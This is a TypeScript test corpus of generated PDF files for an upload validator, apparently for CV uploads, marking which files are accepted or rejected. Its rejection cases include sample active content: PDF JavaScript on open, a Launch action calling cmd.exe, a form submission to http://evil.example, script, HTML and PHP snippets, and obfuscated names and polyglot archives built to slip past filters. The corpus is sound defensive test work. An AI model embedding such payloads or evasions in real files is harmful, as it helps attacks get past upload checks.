import { deflateSync } from 'node:zlib';
import { acceptedFile, type CorpusFile, rejectedFile, rejectedFilesOfAnyKind } from './corpus-file.ts';
import { makeDocx } from './make-docx.ts';
import { makePdf } from './make-pdf.ts';
import { makeZip } from './make-zip.ts';

const validPdf = makePdf();
const truncate = (end: number): Buffer => validPdf.subarray(0, validPdf.length + end);
const join = (...parts: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
const zip = makeZip([{ name: 'run.exe', content: 'MZ' }]);
/** An object stream. */
const createObjectStream = (objects: string, dictionary = '/Filter /FlateDecode', type = '/ObjStm'): string => {
  const data = dictionary === '' ? Buffer.from(objects) : deflateSync(objects);
  const head = `<< /Type ${type} /N 1 /First 4 /Length ${data.length} ${dictionary} >>`;
  return `${head}\nstream\n${data.toString('latin1')}\nendstream`;
};
const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const key = '/Encrypt 9 0 R /ID [<00><00>]';

export const pdfCorpus: readonly CorpusFile[] = [
  acceptedFile('a simple PDF', 'cv.pdf', () => validPdf),
  acceptedFile('a cross-reference stream', 'cv.pdf', () => makePdf({ isStream: true })),
  acceptedFile('version 1.0', 'cv.pdf', () => makePdf({ version: '1.0' })),
  acceptedFile('version 2.0', 'cv.pdf', () => makePdf({ version: '2.0', isStream: true })),
  acceptedFile('no line break at the end', 'cv.pdf', () => makePdf({ end: '%%EOF' })),
  acceptedFile('trailing spaces and null bytes', 'cv.pdf', () => join(validPdf, ' \r\n\0\0\0')),
  acceptedFile('an incremental update with two ends', 'cv.pdf', () =>
    join(validPdf, validPdf.subarray(validPdf.lastIndexOf('xref\n0'))),
  ),
  acceptedFile('five megabytes', 'cv.pdf', () => makePdf({ head: `%${'x'.repeat(4_998_000)}\n` })),
  acceptedFile('text about encryption', 'cv.pdf', () =>
    makePdf({ pageText: '/Encrypt', trailer: '/EncryptMetadata true' }),
  ),
  acceptedFile('a name with a path', 'C:\\fakepath\\My CV.PDF', () => validPdf),
  acceptedFile('a name in several scripts', '履歴書 – Zoë (2026).pdf', () => validPdf),
  acceptedFile('zip signatures in its text', 'cv.pdf', () =>
    makePdf({ pageText: 'PK\u0005\u0006 and PK\u0003\u0004' }),
  ),
  acceptedFile('HTML far from the start', 'cv.pdf', () => makePdf({ head: `%${' '.repeat(2000)}<html>\n` })),
  ...rejectedFilesOfAnyKind('.pdf', () => validPdf),
  rejectedFile('only a header', 'damaged', 'cv.pdf', () => Buffer.from('%PDF-1.7\n')),
  rejectedFile('only a header and an end', 'damaged', 'cv.pdf', () => Buffer.from('%PDF-1.7\n%%EOF\n')),
  rejectedFile('a header without a version', 'kind', 'cv.pdf', () => join('%PDF-\n', validPdf)),
  rejectedFile('an unknown version', 'kind', 'cv.pdf', () => makePdf({ version: '9.9' })),
  rejectedFile('a missing end marker', 'damaged', 'cv.pdf', () => truncate(-6)),
  rejectedFile('a truncated PDF', 'damaged', 'cv.pdf', () => validPdf.subarray(0, validPdf.length / 2)),
  rejectedFile('a table offset after the end', 'damaged', 'cv.pdf', () => makePdf({ tableOffset: () => 99_999_999 })),
  rejectedFile('a table offset without a table', 'damaged', 'cv.pdf', () => makePdf({ tableOffset: () => 12 })),
  rejectedFile('a table offset that is not a number', 'damaged', 'cv.pdf', () =>
    makePdf({ tableOffset: () => 'here' }),
  ),
  rejectedFile('an object instead of the table', 'damaged', 'cv.pdf', () =>
    makePdf({ tableOffset: () => validPdf.indexOf('1 0 obj') }),
  ),
  rejectedFile('a table without a root', 'damaged', 'cv.pdf', () =>
    join(validPdf.toString('latin1').replace('/Root 1 0 R', '')),
  ),
  rejectedFile('five megabytes after the end', 'damaged', 'cv.pdf', () => join(validPdf, Buffer.alloc(4_990_000, 32))),
  rejectedFile('a trailer of four megabytes', 'damaged', 'cv.pdf', () => makePdf({ trailer: ' '.repeat(4_000_000) })),
  rejectedFile('an encrypted PDF', 'locked', 'cv.pdf', () => makePdf({ trailer: key })),
  rejectedFile('an encrypted PDF with a cross-reference stream', 'locked', 'cv.pdf', () =>
    makePdf({ trailer: key, isStream: true }),
  ),
  rejectedFile('an encrypted PDF with an escaped name', 'locked', 'cv.pdf', () =>
    makePdf({ trailer: key.replace('crypt', '#63rypt') }),
  ),
  rejectedFile('an encrypted PDF with an inline dictionary', 'locked', 'cv.pdf', () =>
    makePdf({ trailer: '/Encrypt<</Filter/Standard/V 2>>' }),
  ),
  acceptedFile('text with names of languages and actions', 'cv.pdf', () =>
    makePdf({ pageText: 'HTML/CSS/JS, Java/JavaScript, /Launch, /EmbeddedFile', catalog: '/Lang (C/JavaScript)' }),
  ),
  acceptedFile('harmless objects in an object stream', 'cv.pdf', () =>
    makePdf({ object: createObjectStream('9 0 << /Title (About /JavaScript) /S /GoTo >>'), isStream: true }),
  ),
  rejectedFile('a script that runs when it is opened', 'active', 'cv.pdf', () =>
    makePdf({ catalog: `/OpenAction ${script}` }),
  ),
  rejectedFile('a script in a separate object', 'active', 'cv.pdf', () =>
    makePdf({ catalog: '/AA << /WC 6 0 R >>', object: script }),
  ),
  rejectedFile('a script with an escaped name', 'active', 'cv.pdf', () =>
    makePdf({ object: '<</S/#4AavaScrip#74/J#53(x)>>' }),
  ),
  rejectedFile('a script after a comment', 'active', 'cv.pdf', () =>
    makePdf({ object: '<< /S %x\n /JavaScript /JS (x) >>' }),
  ),
  rejectedFile('a script type in a separate object', 'active', 'cv.pdf', () => makePdf({ object: '/JavaScript' })),
  rejectedFile('a script in an object stream', 'active', 'cv.pdf', () =>
    makePdf({ object: createObjectStream(`9 0 ${script}`), isStream: true }),
  ),
  rejectedFile('a script in an object stream with escaped names', 'active', 'cv.pdf', () =>
    makePdf({ object: createObjectStream(`9 0 ${script}`, '/Filter[/Fl#61teDecode]', '/Obj#53tm'), isStream: true }),
  ),
  rejectedFile('a script in an uncompressed object stream', 'active', 'cv.pdf', () =>
    makePdf({ object: createObjectStream('9 0 << /S /#4aavaScript >>', ''), isStream: true }),
  ),
  rejectedFile('an object stream with an unusual filter', 'damaged', 'cv.pdf', () =>
    makePdf({ object: createObjectStream(`9 0 ${script}`, '/Filter /LZWDecode') }),
  ),
  rejectedFile('an object stream of a hundred megabytes', 'swollen', 'cv.pdf', () =>
    makePdf({ object: createObjectStream(' '.repeat(100_000_000)) }),
  ),
  rejectedFile('a launch action', 'active', 'cv.pdf', () =>
    makePdf({ object: '<< /Type /Action /S /Launch /F (cmd.exe) >>' }),
  ),
  rejectedFile('an action that submits a form', 'active', 'cv.pdf', () =>
    makePdf({ catalog: '/OpenAction << /S /SubmitForm /F (http://evil.example) >>' }),
  ),
  rejectedFile('an XFA form', 'active', 'cv.pdf', () => makePdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' })),
  rejectedFile('an embedded file', 'active', 'cv.pdf', () => makePdf({ catalog: '/Names << /EmbeddedFiles 6 0 R >>' })),
  rejectedFile('a file attached to an annotation', 'active', 'cv.pdf', () =>
    makePdf({ object: '<< /Type /Filespec /EF << /F 7 0 R >> >>' }),
  ),
  rejectedFile('a zip after the PDF', 'kind', 'cv.pdf', () => join(validPdf, zip)),
  rejectedFile('a zip inside the PDF', 'kind', 'cv.pdf', () => makePdf({ head: `%${zip.toString('latin1')}\n` })),
  rejectedFile('a zip inside the PDF with correct offsets', 'kind', 'cv.pdf', () =>
    makeZip([{ name: 'a', content: 'x' }], { before: validPdf, after: validPdf }),
  ),
  rejectedFile('a zip inside the PDF with a wrong directory size', 'kind', 'cv.pdf', () =>
    makeZip([{ name: 'a', content: 'x' }], { before: validPdf, after: validPdf, end: { 12: 1 } }),
  ),
  rejectedFile('a DOCX after the PDF', 'kind', 'cv.pdf', () => join(validPdf, makeDocx())),
  rejectedFile('a DOCX named .pdf', 'kind', 'cv.pdf', () => makeDocx()),
  rejectedFile('HTML in the first lines', 'kind', 'cv.pdf', () => makePdf({ head: '%<html><body onload=alert(1)>\n' })),
  rejectedFile('a script tag in the first lines', 'kind', 'cv.pdf', () =>
    makePdf({ head: '%<SCRIPT src=//evil.example>\n' }),
  ),
  rejectedFile('PHP in the first lines', 'kind', 'cv.pdf', () => makePdf({ head: '%<?php system(1);\n' })),
  rejectedFile('a RAR archive after the PDF', 'kind', 'cv.pdf', () => join(validPdf, 'Rar!\u001a\u0007\u0001\u0000')),
  rejectedFile('a 7z archive inside the PDF', 'kind', 'cv.pdf', () => makePdf({ head: "%7z\u00bc\u00af'\u001c\n" })),
];
